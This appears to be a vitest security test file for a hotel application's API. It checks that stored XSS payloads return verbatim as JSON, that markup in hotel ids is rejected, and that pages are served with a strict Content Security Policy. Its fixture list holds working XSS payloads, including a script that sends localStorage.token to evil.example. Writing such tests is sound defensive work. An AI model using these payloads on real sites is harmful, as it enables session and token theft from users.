/**
 * Stored XSS at the API level. Script payloads stored in hotel names, snippet contents and profile
 * fields come back verbatim inside JSON (never HTML), hostile hotel ids are refused by validation or
 * returned as JSON, and every page of the single-page app carries a CSP that forbids inline script.
 * (Whether the console renders them as text is checked in Chromium by the e2e suite.)
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp, type TestSession } from '../helpers.ts';
import { createHotel, createProfile, createSnippet } from '@hotel/domain/testing';

const XSS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(document.cookie)>',
  "javascript:alert('x')",
  '<a href="javascript:alert(1)">rates</a>',
  '{{constructor.constructor("alert(1)")()}}',
  '</script><script>fetch("//evil.example/?c="+localStorage.token)</script>',
];

function directives(csp: string): Map<string, string[]> {
  return new Map(
    csp
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((p) => p[0])
      .map((p) => [p[0]!, p.slice(1)]),
  );
}

describe('stored XSS: payloads stay data in JSON; the SPA is served with a strict CSP', () => {
  let t: TestApp;
  let user: TestSession;
  let webDir: string;
  const hotelIds: string[] = [];

  beforeAll(async () => {
    webDir = mkdtempSync(join(tmpdir(), 'hp-xss-web-'));
    writeFileSync(join(webDir, 'index.html'), '<!doctype html><html><head><script type="module" src="/assets/app.js"></script></head><body><div id="root"></div></body></html>');
    t = await createTestApp({ app: { webDistDir: webDir } });
    user = await t.loginAs();
    for (const payload of XSS) {
      const h = await createHotel(t.db, { name: payload, brand_name: payload });
      hotelIds.push(h.id);
      await createSnippet(t.db, h.id, { content: payload });
      await createProfile(t.db, h.id, { name: payload, description: payload, address: payload, amenities: JSON.stringify([payload]) });
    }
  }, 120_000);
  afterAll(async () => {
    await t?.close();
    rmSync(webDir, { recursive: true, force: true });
  });

  const get = (url: string) => t.app.inject({ method: 'GET', url, headers: t.auth(user) });

  function expectJson(res: Awaited<ReturnType<typeof get>>) {
    expect(res.headers['content-type']).toMatch(/^application\/json; charset=utf-8$/);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
  }

  it('hotel list, detail, snippets and profile return every payload verbatim as JSON strings', async () => {
    const list = await get('/api/hotels?pageSize=200');
    expect(list.statusCode).toBe(200);
    expectJson(list);
    const names = list.json<{ name: string }[]>().map((h) => h.name);
    for (const p of XSS) expect(names).toContain(p);

    for (const [i, id] of hotelIds.entries()) {
      const payload = XSS[i]!;
      const enc = encodeURIComponent(id);
      const detail = await get(`/api/hotels/${enc}`);
      expectJson(detail);
      expect(detail.json()).toMatchObject({ name: payload, brandName: payload });
      const snippets = await get(`/api/hotels/${enc}/snippets`);
      expectJson(snippets);
      expect(snippets.json<{ content: string }[]>().map((s) => s.content)).toContain(payload);
      const profile = await get(`/api/hotels/${enc}/profile`);
      expectJson(profile);
      expect(profile.json()).toMatchObject({ name: payload, description: payload, address: payload, amenities: [payload] });
    }
  });

  it('search with a script payload answers JSON and never reflects it as markup', async () => {
    const res = await get(`/api/hotels?q=${encodeURIComponent('<script>alert(1)</script>')}`);
    expect(res.statusCode).toBe(200);
    expectJson(res);
    expect(res.json<{ name: string }[]>().map((h) => h.name)).toContain('<script>alert(1)</script>');
  });

  it('hotel ids carrying markup are refused by validation, or come back as JSON (never HTML)', async () => {
    const refused = await t.app.inject({
      method: 'POST',
      url: '/api/scrape',
      headers: t.auth(user),
      payload: { hotels: [{ hotelId: '<script>alert(1)</script>', url: 'https://a.example.com/' }] },
    });
    expect(refused.statusCode).toBe(400);
    expectJson(refused);
    expect(refused.json().message).toMatch(/Hotel ID must not contain/);

    for (const url of ['/api/hotels/%3Cscript%3Ealert(1)%3C%2Fscript%3E', '/api/hotels/%3Csvg%3E', '/api/%3Cscript%3Ealert(1)%3C/script%3E']) {
      const res = await get(url);
      expect(res.statusCode).toBeGreaterThanOrEqual(400);
      expectJson(res);
    }
  });

  it('the SPA fallback and static pages carry a CSP without inline or eval script, and deny framing', async () => {
    for (const url of ['/', '/hotels/%3Cscript%3Ealert(1)%3C%2Fscript%3E', '/hotels/abc?x=<script>']) {
      const res = await t.app.inject({ method: 'GET', url });
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toMatch(/^text\/html/);
      // The fallback serves the file as is: no part of the URL is reflected into the page.
      expect(res.body).not.toContain('alert(1)');
      const csp = res.headers['content-security-policy'];
      expect(typeof csp).toBe('string');
      const d = directives(csp as string);
      const script = d.get('script-src') ?? d.get('default-src');
      expect(script).toEqual(["'self'"]);
      expect(d.get('default-src')).toEqual(["'self'"]);
      expect(d.get('object-src')).toEqual(["'none'"]);
      expect(d.get('frame-ancestors')).toEqual(["'none'"]);
      expect(d.get('script-src-attr')).toEqual(["'none'"]);
      expect(csp).not.toMatch(/script-src[^;]*'unsafe-(inline|eval)'/);
      expect(res.headers['x-content-type-options']).toBe('nosniff');
    }
  });

  it('API answers carry the same CSP, so a JSON body opened as a page cannot run script', async () => {
    const res = await get(`/api/hotels/${encodeURIComponent(hotelIds[0]!)}`);
    const d = directives(res.headers['content-security-policy'] as string);
    expect(d.get('script-src')).toEqual(["'self'"]);
  });
});
